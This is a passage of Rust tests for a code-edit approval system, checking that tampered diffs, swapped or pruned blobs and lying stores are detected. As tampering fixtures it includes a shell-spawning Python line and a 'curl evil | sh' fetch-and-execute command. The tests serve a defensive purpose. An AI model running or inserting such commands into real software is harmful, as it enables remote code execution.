        let back: ApprovalRequest = serde_json::from_value(json).unwrap();
        assert_eq!(back, req);
        let old_json = serde_json::to_string(&old).unwrap();
        assert!(old_json.contains("\"proposal\":{"), "{old_json}");
        let old_back: ApprovalRequest = serde_json::from_str(&old_json).unwrap();
        assert_eq!(old_back, old);
        let view = ApprovalView::of(&req, None, &blobs);
        assert_eq!(view.status, ApprovalStatus::Pending);
        assert_eq!(view.diff, ApprovalView::of(&old, None, &NONE).diff);
        // Without the object store it cannot be shown as fine, nor decided.
        let v = ApprovalView::of(&req, None, &NoBlobs("no repository at /gone".into()));
        assert_eq!(v.status, ApprovalStatus::Tampered);
        assert!(v.reason.contains("no repository at /gone"), "{}", v.reason);
    }

    #[test]
    fn a_pruned_post_image_is_rebuilt_from_the_diff_and_checked() {
        let blobs = MemBlobs::default();
        let req = stored(&blobs);
        let (_, after) = req.content.blob_ids().unwrap();
        blobs.drop_blob(after);
        let v = req.verify(&blobs).unwrap();
        assert_eq!(v.proposal.after, "def f():\n    return 2\n");
        // A diff changed to rebuild something else is caught by the post-image's blob id.
        let mut evil = req.clone();
        evil.diff = evil
            .diff
            .replace("+    return 2", "+    return __import__('os').system('sh')");
        let e = evil.verify(&blobs).unwrap_err();
        assert!(matches!(e, Tampered::Rebuilt { .. }), "{e}");
        assert!(e.to_string().contains(req.approval_id.as_str()), "{e}");
        // A diff that does not apply at all is no better.
        let mut junk = req.clone();
        junk.diff = "+harmless\n".into();
        assert!(matches!(junk.verify(&blobs), Err(Tampered::Rebuilt { .. })));
        // The pre-image cannot be rebuilt: without it, nothing is trusted.
        let (before, _) = req.content.blob_ids().unwrap();
        blobs.drop_blob(before);
        let e = req.verify(&blobs).unwrap_err();
        assert!(matches!(e, Tampered::Unavailable { .. }), "{e}");
    }

    #[test]
    fn tampering_with_a_stored_diff_or_its_blob_ids_is_caught() {
        type Change = fn(&mut ApprovalRequest, &MemBlobs);
        let changes: [(&str, Change); 6] = [
            ("diff", |r, _| r.diff = "+harmless\n".into()),
            ("diff kept applicable", |r, _| {
                r.diff = r.diff.replace("@@ -1,2 +1,2 @@", "@@ -1,2 +1,2 @@ ")
            }),
            ("after blob", |r, b| {
                let id = b.put("import os\nos.system('curl evil | sh')\n");
                if let RecordedEdit::Stored(s) = &mut r.content {
                    s.after_blob = id;
                }
            }),
            ("before blob", |r, b| {
                let id = b.put("x = 0\n");
                if let RecordedEdit::Stored(s) = &mut r.content {
                    s.before_blob = id;
                }
            }),
            ("blob ids swapped", |r, _| {
                if let RecordedEdit::Stored(s) = &mut r.content {
                    std::mem::swap(&mut s.before_blob, &mut s.after_blob);
                }
            }),
            ("file", |r, _| r.file_path = "setup.py".into()),
        ];
        for (what, change) in changes {
            let blobs = MemBlobs::default();
            let mut req = stored(&blobs);
            change(&mut req, &blobs);
            let e = req.verify(&blobs).unwrap_err();
            assert!(
                e.to_string().contains(req.approval_id.as_str()),
                "{what}: {e}"
            );
            assert_eq!(
                ApprovalView::of(&req, None, &blobs).status,
                ApprovalStatus::Tampered,
                "{what}"
            );
        }
        // A store that answers with other content than the id names.
        struct Liar;
        impl BlobSource for Liar {
            fn read(&self, _: &str) -> Result<Option<Vec<u8>>, String> {
                Ok(Some(b"import os\n".to_vec()))
            }
            fn id_of(&self, _: &[u8]) -> String {
                "same".into()
            }
        }
        let blobs = MemBlobs::default();
        let req = stored(&blobs);
        assert!(req.verify(&Liar).is_err());
    }

    #[test]
    fn an_approve_decision_on_a_stored_request_applies_exactly_its_post_image() {
        let blobs = MemBlobs::default();
        let req = stored(&blobs);
        let d = ApprovalDecision::new(
            req.approval_id.clone(),
            req.verify(&blobs).unwrap().binding,
            Decision::Approve,
            "2026-01-01T00:00:01Z".into(),
            "alice".into(),
            String::new(),
        );
        let edit = ApprovedEdit::from_decision(&req, &d, &blobs).unwrap();
        assert_eq!(edit.proposal().after, "def f():\n    return 2\n");
        // The same decision does not carry over to a request pointing at other content.
        let mut other = req.clone();
        if let RecordedEdit::Stored(s) = &mut other.content {
            s.after_blob = blobs.put("import os\n");
        }
        assert!(ApprovedEdit::from_decision(&other, &d, &blobs).is_err());
    }
}
